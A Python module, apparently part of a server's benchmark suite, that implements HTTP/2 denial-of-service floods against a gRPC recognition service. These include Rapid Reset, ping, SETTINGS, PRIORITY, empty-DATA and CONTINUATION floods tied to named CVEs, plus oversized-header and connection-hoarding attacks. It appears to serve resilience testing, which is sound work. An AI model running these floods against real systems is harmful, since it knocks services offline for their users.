"""Attacks by frames: many that cost their sender next to nothing."""

import asyncio
import struct
from collections.abc import Callable
from contextlib import closing, suppress

from benchmarks.attacks.connection import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    Connection,
    Lost,
    call_headers,
    field,
    frame,
)
from benchmarks.attacks.target import Target, again

VERIFY = "/onecode.v1.RecognitionService/Verify"
STREAM_VERIFY = "/onecode.v1.RecognitionService/StreamVerify"
_CALL = call_headers(VERIFY)


async def resets(target: Target) -> None:
    """5,000 calls a second, each cancelled as it is opened (Rapid Reset, CVE-2023-44487)"""
    await _flood(target, 5_000, _opened_and_reset)


async def more_resets(target: Target) -> None:
    """the same, 20,000 a second"""
    await _flood(target, 20_000, _opened_and_reset)


async def resets_from_many(target: Target) -> None:
    """the same, 50,000 a second over 40 connections"""
    await asyncio.gather(*(_flood(target, 50_000 / 40, _opened_and_reset) for _ in range(40)))


async def pings(target: Target) -> None:
    """10,000 pings a second (CVE-2019-9512)"""
    await _flood(target, 10_000, lambda _: frame(PING, 0, 0, bytes(8)))


async def settings(target: Target) -> None:
    """5,000 SETTINGS frames a second, each to be acknowledged (CVE-2019-9515)"""
    one = struct.pack(">HI", 4, 65_535)
    await _flood(target, 5_000, lambda _: frame(SETTINGS, 0, 0, one))


async def priorities(target: Target) -> None:
    """10,000 PRIORITY frames a second (CVE-2019-9513)"""
    await _flood(target, 10_000, lambda _: frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)))


async def empty_data(target: Target) -> None:
    """10,000 empty DATA frames a second on one call (CVE-2019-9518)"""

    async def once() -> None:
        with closing(await Connection.open(target.address)) as connection:
            stream = await connection.begin(call_headers(STREAM_VERIFY))
            async for count in target.paced(10_000):
                await connection.write(frame(DATA, 0, stream) * count)

    await again(once)


async def continuations(target: Target) -> None:
    """headers without an end, 2 MB a second (CVE-2024-27316)"""
    part = field(b"x-more", b"m" * 100) * 9

    async def once() -> None:
        with closing(await Connection.open(target.address)) as connection:
            stream = connection.next_stream()
            await connection.write(frame(HEADERS, 0, stream, call_headers(VERIFY)))
            async for count in target.paced(2_000):
                await connection.write(frame(CONTINUATION, 0, stream, part) * count)

    await again(once)


async def strangers(target: Target) -> None:
    """1,000 calls a second of methods that nobody has, with 7 KiB of headers"""
    headers = call_headers("/onecode.v1.Nobody/Knows") + field(b"x-more", b"m" * 100) * 64

    async def once() -> None:
        with closing(await Connection.open(target.address)) as connection:
            async for count in target.paced(1_000):
                for _ in range(count):
                    await connection.begin(headers)

    await again(once)


async def connections(target: Target) -> None:
    """50 new connections a second that say hello and no more, 500 at a time"""
    held: list[Connection] = []
    try:
        async for count in target.paced(50):
            with suppress(Lost):  # turned away, as it may be
                held += [await Connection.open(target.address) for _ in range(count)]
            while len(held) > 500:
                held.pop(0).close()
    finally:
        for connection in held:
            connection.close()


def _opened_and_reset(connection: Connection) -> bytes:
    stream = connection.next_stream()
    return frame(HEADERS, END_HEADERS, stream, _CALL) + frame(RST_STREAM, 0, stream, CANCEL)


async def _flood(target: Target, per_s: float, make: Callable[[Connection], bytes]) -> None:
    async def once() -> None:
        with closing(await Connection.open(target.address)) as connection:
            async for count in target.paced(per_s):
                await connection.write(b"".join(make(connection) for _ in range(count)))

    await again(once)
